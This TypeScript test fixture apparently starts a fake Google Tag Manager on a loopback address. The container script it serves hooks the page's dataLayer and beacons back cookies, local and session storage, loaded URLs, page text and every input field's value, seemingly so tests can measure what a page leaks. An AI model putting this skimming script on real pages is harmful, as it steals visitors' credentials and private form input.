import { createServer } from "node:http";
import { listenOnLoopback } from "./loopback.ts";

export type TagManagerServer = {
  url: string;
  /** Requested containers. */
  loads: string[];
  /** All that has arrived: lines of URLs, headers and bodies. */
  raw: string;
  /** The data that the container has sent: entries of the data layer with an `event`, by document. */
  events: { event: string; [field: string]: unknown }[];
  close: () => void;
};

/**
 * A container that sends all it can get: each entry of the data layer, and when the page is left the URL, the referrer,
 * cookies, storage, loaded URLs and the whole document.
 */
const container = (to: string) => `{
const to=${JSON.stringify(to)};
const plain=(key,value)=>Object.prototype.toString.call(value)==="[object Arguments]"?[...value]:value;
const send=(kind,what)=>navigator.sendBeacon(to+"/collect",JSON.stringify({kind,what},plain));
const take=entry=>send("entry",entry);
dataLayer.forEach(take);
dataLayer.push=(...all)=>{all.forEach(take);return Array.prototype.push.apply(dataLayer,all)};
addEventListener("pagehide",()=>send("page",[location.href,document.referrer,document.cookie,{...localStorage},
{...sessionStorage},performance.getEntries().map(({name})=>name)]));
const look=()=>send("document",[document.body.innerText,...[...document.querySelectorAll("input")].map(({value})=>value)].join(" "));
addEventListener("input",look,true);addEventListener("pagehide",look);
}`;

/** A fake Google Tag Manager on this machine, which counts its requests. */
export async function openTagManager(): Promise<TagManagerServer> {
  const server = createServer((request, response) => {
    let body = "";
    request.on("data", (part: Buffer) => (body += part.toString()));
    request.on("end", () => {
      const url = new URL(request.url ?? "/", "http://x");
      opened.raw += `${request.url} ${JSON.stringify(request.headers)} ${body}\n`;
      if (url.pathname === "/gtm.js") {
        opened.loads.push(url.searchParams.get("id") ?? "");
        response.writeHead(200, { "content-type": "text/javascript" }).end(container(opened.url));
        return;
      }
      const { kind, what } = JSON.parse(body || "{}") as { kind?: string; what?: { event?: string } };
      if (kind === "entry" && what?.event) opened.events.push(what as TagManagerServer["events"][0]);
      response.writeHead(204).end();
    });
  });
  const { url, close } = await listenOnLoopback(server);
  const opened: TagManagerServer = {
    url,
    loads: [],
    raw: "",
    events: [],
    close,
  };
  return opened;
}
